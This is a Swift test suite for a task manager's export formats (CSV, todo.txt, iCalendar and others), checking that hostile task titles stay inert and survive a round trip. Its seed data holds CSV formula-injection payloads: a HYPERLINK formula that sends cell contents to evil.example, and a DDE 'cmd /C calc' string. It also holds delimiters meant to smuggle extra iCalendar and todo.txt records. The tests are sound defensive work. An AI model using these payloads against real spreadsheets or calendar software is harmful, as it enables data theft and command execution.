import Foundation
import Testing
import HostileSamples
import TestPeers

/// Titles and fields written to attack the programs that open an export: spreadsheet
/// formulas, todo.txt metadata, iCalendar delimiters. Every format's file is inert there, and
/// every format `import` reads gives back the same tasks.
@Suite struct HostileExportRoundTripTests {
    static let titles = [
        #"=HYPERLINK("http://evil.example/?"&A1,"Click")"#,
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd",
        "-2+3",
        "'=already quoted",
        "x 2020-01-01 fake +hijack @ctx due:1999-01-01",
        "(A) 2020-01-01 pri:C rec:1w UID:abc Due:2030-01-01 \\+escaped \\\\double",
        "BEGIN:VTODO; a, b \"quoted\" END:VCALENDAR",
        "Meet at 10:30 t:2026-12-01 a+b c@d",
    ]

    /// One task per title; some with notes, tags and projects that are hostile too.
    static var seed: String {
        titles.enumerated().map { index, title in
            var record: [String: Any] = ["title": title, "uuid": String(format: "00000000-0000-4000-8000-%012ld", index),
                                         "status": index == 5 ? "done" : "pending",
                                         "created": "2026-11-30T09:00:00+03:00", "modified": "2026-11-30T09:00:00+03:00"]
            if index == 5 { record["completed"] = "2026-12-01T12:00:00+03:00"; record["modified"] = "2026-12-01T12:00:00+03:00" }
            if index % 2 == 0 {
                record["notes"] = "=1+1\nEND:VTODO\r\nBEGIN:VEVENT"
                record["tags"] = ["-minus", "=eq", "@at"]
                record["project"] = "+plus"
                record["due_date"] = "2026-12-0\(index % 9 + 1)"
            }
            return String(decoding: try! JSONSerialization.data(withJSONObject: record, options: [.sortedKeys]), as: UTF8.self)
        }.joined(separator: "\n") + "\n"
    }

    let helper = ExportRoundTripTests()

    func seeded() throws -> TaskDraftBinary { try .seeded(with: Self.seed, file: "hostile.jsonl") }

    /// The fields a format carries, task by task, from `export --format json`.
    func fields(_ td: TaskDraftBinary, db: String, _ keys: [String]) throws -> [[String: String]] {
        let tasks = try JSONSerialization.jsonObject(with: Data(try helper.export(td, "json", db: db).utf8)) as! [[String: Any]]
        return tasks.map { task in
            Dictionary(uniqueKeysWithValues: keys.map { ($0, task[$0].map { "\($0)" } ?? "nil") })
        }.sorted { $0["title"]! < $1["title"]! }
    }

    @Test(arguments: [("json", "export.json"), ("jsonl", "export.jsonl"), ("csv", "export.csv"),
                      ("taskwarrior", "taskwarrior.json"), ("todotxt", "todo.txt"), ("ics", "tasks.ics")])
    func exportImportExportKeepsHostileTasks(format: String, file: String) throws {
        let td = try seeded()
        defer { td.remove() }
        let first = try helper.export(td, format, db: td.databasePath)
        let other = try helper.roundTrip(td, format, file: file, from: td.databasePath, into: "other.db")
        let second = try helper.export(td, format, db: other)
        if format == "todotxt" {
            #expect(first.split(separator: "\n").sorted() == second.split(separator: "\n").sorted())
        } else {
            #expect(second == first)
        }
        // What the format carries comes back field for field: todo.txt has no notes, and
        // Taskwarrior keeps a day as a time stamp.
        let keys: [String]
        switch format {
        case "todotxt": keys = ["title", "status", "priority", "project", "tags", "due", "due_date", "uuid"]
        case "taskwarrior": keys = ["title", "notes", "status", "priority", "project", "tags", "uuid"]
        default: keys = ["title", "notes", "status", "priority", "project", "tags", "due", "due_date", "uuid", "completed"]
        }
        #expect(try fields(td, db: other, keys) == (try fields(td, db: td.databasePath, keys)))
    }

    /// A tag may hold a comma (`x,y`) and a title runs of spaces: an export is the separators
    /// of its format, so the values must come back exactly, not split at the comma or with
    /// the spaces collapsed. Every format that carries tags and titles.
    @Test(arguments: [("json", "export.json"), ("jsonl", "export.jsonl"), ("csv", "export.csv"),
                      ("taskwarrior", "taskwarrior.json"), ("todotxt", "todo.txt"), ("ics", "tasks.ics")])
    func commasInTagsAndRunsOfSpacesComeBackExactly(format: String, file: String) throws {
        let td = try TaskDraftBinary()
        defer { td.remove() }
        let path = td.directory.appendingPathComponent("seed.jsonl").path
        let records: [[String: Any]] = [
            ["title": "Plan  the   trip\u{A0}to Kraków", "tags": ["x,y", "z"], "uuid": "00000000-0000-4000-8000-000000000001"],
            ["title": "a , b  ,c", "tags": [",", "a,,b,"], "uuid": "00000000-0000-4000-8000-000000000002"],
        ]
        let seed = try records.map { String(decoding: try JSONSerialization.data(withJSONObject: $0), as: UTF8.self) }
        try (seed.joined(separator: "\n") + "\n").write(toFile: path, atomically: true, encoding: .utf8)
        #expect(try td.run(["import", path, "--yes"]).status == 0)
        let other = try helper.roundTrip(td, format, file: file, from: td.databasePath, into: "other.db")
        let keys = ["title", "tags", "uuid"]
        let before = try fields(td, db: td.databasePath, keys), after = try fields(td, db: other, keys)
        #expect(before.map { $0["title"] } == ["Plan  the   trip\u{A0}to Kraków", "a , b  ,c"].sorted())
        #expect(after == before)
    }

    @Test func noCSVCellStartsLikeAFormula() throws {
        let td = try seeded()
        defer { td.remove() }
        let rows = SpreadsheetCells.rows(try helper.export(td, "csv", db: td.databasePath))
        #expect(rows.count == Self.titles.count + 1)
        for cell in rows.joined() {
            #expect(!SpreadsheetCells.runsAsAFormula(cell), "\(cell.debugDescription)")
        }
        let titles = rows.dropFirst().map { $0[0] }
        #expect(titles.contains(#"'=HYPERLINK("http://evil.example/?"&A1,"Click")"#))
        #expect(titles.contains("''=already quoted"))
        #expect(titles.contains("'-2+3"))
        // Annotations are a JSON list: the note's own "=1+1" sits inside it, never at a cell's start.
        #expect(rows.dropFirst().contains { $0[3] == "'-minus =eq @at" && $0[4] == "'+plus" && $0[5].contains(#""text":"=1+1"#) })
    }

    @Test func aForeignCSVKeepsItsLeadingQuotes() throws {
        let td = try TaskDraftBinary()
        defer { td.remove() }
        let path = td.directory.appendingPathComponent("other.csv").path
        try "title,notes\n'=kept,'+kept too\n".write(toFile: path, atomically: true, encoding: .utf8)
        #expect(try td.run(["import", path, "--yes"]).status == 0)
        let tasks = try td.json(["list", "--json"]) as! [[String: Any]]
        #expect(tasks.first?["title"] as? String == "'=kept")
        #expect((tasks.first?["annotations"] as? [[String: Any]])?.map { $0["text"] as? String } == ["'+kept too"])
    }

    @Test func todoTxtTitlesDoNotReparseAsMetadata() throws {
        let td = try seeded()
        defer { td.remove() }
        let todo = try helper.export(td, "todotxt", db: td.databasePath)
        #expect(todo.contains(" x 2020-01-01 fake \\+hijack \\@ctx \\due:1999-01-01"))
        let other = try helper.roundTrip(td, "todotxt", file: "todo.txt", from: td.databasePath, into: "b.db")
        let tasks = try JSONSerialization.jsonObject(with: Data(try helper.export(td, "json", db: other).utf8)) as! [[String: Any]]
        let hijack = try #require(tasks.first { ($0["title"] as? String)?.hasPrefix("x 2020") == true })
        #expect(hijack["title"] as? String == Self.titles[5])
        #expect(hijack["status"] as? String == "done", "done in the seed too")
        #expect(hijack["project"] as? String == nil && hijack["due"] as? String == nil && hijack["due_date"] as? String == nil)
        #expect((hijack["tags"] as? [Any])?.isEmpty != false)
        let escaped = try #require(tasks.first { ($0["title"] as? String)?.hasPrefix("(A)") == true })
        #expect(escaped["title"] as? String == Self.titles[6])
        #expect(escaped["priority"] as? String == "none")
    }

    /// Parsed by the python3-icalendar package: one VTODO per task, text fields exact (minus
    /// the control characters iCalendar TEXT cannot hold), nothing spilled into new properties.
    /// Titles with a backslash are read exactly by python3-vobject instead
    /// (`icsEscapesReadExactlyWithVobject`).
    @Test(.enabled(if: try Peer.icalendar.installed())) func icsReparsesWithARealICalendarLibrary() throws {
        let td = try seeded()
        defer { td.remove() }
        let path = td.directory.appendingPathComponent("tasks.ics").path
        #expect(try td.run(["export", "status:all", "-o", path]).status == 0)
        let script = """
            import icalendar, json, sys
            cal = icalendar.Calendar.from_ical(open(sys.argv[1], 'rb').read())
            out = []
            for todo in cal.walk('VTODO'):
                cats = todo.get('CATEGORIES')
                out.append({'summary': str(todo.get('SUMMARY')), 'description': str(todo.get('DESCRIPTION', '')),
                            'categories': [str(c) for c in cats.cats] if cats is not None else [],
                            'project': str(todo.get('X-TASKDRAFT-PROJECT', ''))})
            print(json.dumps({'todos': out, 'events': len(cal.walk('VEVENT'))}))
            """
        let parsed = try PythonReader.json(script, reading: path) as! [String: Any]
        #expect(parsed["events"] as? Int == 0, "no VEVENT smuggled in through the notes")
        let todos = parsed["todos"] as! [[String: Any]]
        // python3-icalendar 4.0 unescapes twice (the file's `\\\\`, RFC 5545 for two backslashes,
        // comes back as one, and `\\n`, a backslash and an n, as a line break), so it is the
        // reader of every title but those with a backslash.
        let summaries = todos.map { $0["summary"] as! String }
        #expect(summaries.count == Self.titles.count)
        #expect(Set(summaries.filter { !$0.contains("\\") }) == Set(Self.titles.filter { !$0.contains("\\") }))
        let withNotes = todos.filter { !($0["description"] as! String).isEmpty }
        #expect(withNotes.count == 5)
        #expect(withNotes.allSatisfy { $0["description"] as? String == "=1+1\nEND:VTODO\nBEGIN:VEVENT" })
        #expect(withNotes.allSatisfy { $0["categories"] as? [String] == ["-minus", "=eq", "@at"] && $0["project"] as? String == "+plus" })
    }

    /// A task whose every TEXT value holds what RFC 5545 §3.3.11 escapes: a comma, a semicolon,
    /// a backslash (one and two), a backslash before an n, and in the notes a line break. A
    /// title takes no line break (import refuses it as a control character).
    static var escapes: [String: Any] {
        ["title": #"Buy milk, eggs; bread \ jam \\ two \n typed"#,
         "notes": "one, two; three \\ four\nline two \\n stays; \\\\ as typed",
         "tags": ["a,b", "c;d", #"e\f"#, "g\\,h"],
         "project": #"Home, garden; \ shed"#,
         "uuid": #"srv,uid;1\2:x@example.com"#]
    }

    /// python3-vobject reads the escapes of the .ics export exactly as RFC 5545 writes them,
    /// where python3-icalendar 4.0 unescapes twice and splits CATEGORIES at an escaped comma:
    /// vobject is the reader that fails when an escape is wrong, for every hostile title and
    /// for `escapes`' title, notes, tags, project and UID.
    @Test(.enabled(if: try Peer.vobject.installed())) func icsEscapesReadExactlyWithVobject() throws {
        let td = try seeded()
        defer { td.remove() }
        let seed = td.directory.appendingPathComponent("escapes.jsonl").path
        try (String(decoding: try JSONSerialization.data(withJSONObject: Self.escapes), as: UTF8.self) + "\n")
            .write(toFile: seed, atomically: true, encoding: .utf8)
        #expect(try td.run(["import", seed, "--yes"]).status == 0)
        let path = td.directory.appendingPathComponent("tasks.ics").path
        #expect(try td.run(["export", "status:all", "-o", path]).status == 0)
        let script = """
            import json, sys, vobject
            cal = vobject.readOne(open(sys.argv[1], encoding='utf-8').read())
            def text(todo, name):
                return todo.contents[name][0].value if name in todo.contents else None
            print(json.dumps([{'uid': text(todo, 'uid'), 'summary': text(todo, 'summary'),
                               'description': text(todo, 'description'), 'project': text(todo, 'x-taskdraft-project'),
                               'categories': [c for line in todo.contents.get('categories', []) for c in line.value]}
                              for todo in cal.contents.get('vtodo', [])]))
            """
        let todos = try PythonReader.json(script, reading: path) as! [[String: Any]]
        #expect(todos.count == Self.titles.count + 1)
        #expect(Set(todos.compactMap { $0["summary"] as? String }) == Set(Self.titles + [Self.escapes["title"] as! String]))
        let escaped = try #require(todos.first { $0["uid"] as? String == Self.escapes["uuid"] as? String },
                                   "\(todos.map { $0["uid"] ?? "nil" })")
        #expect(escaped["summary"] as? String == Self.escapes["title"] as? String)
        #expect(escaped["description"] as? String == Self.escapes["notes"] as? String)
        #expect(escaped["categories"] as? [String] == Self.escapes["tags"] as? [String])
        #expect(escaped["project"] as? String == Self.escapes["project"] as? String)
    }
}
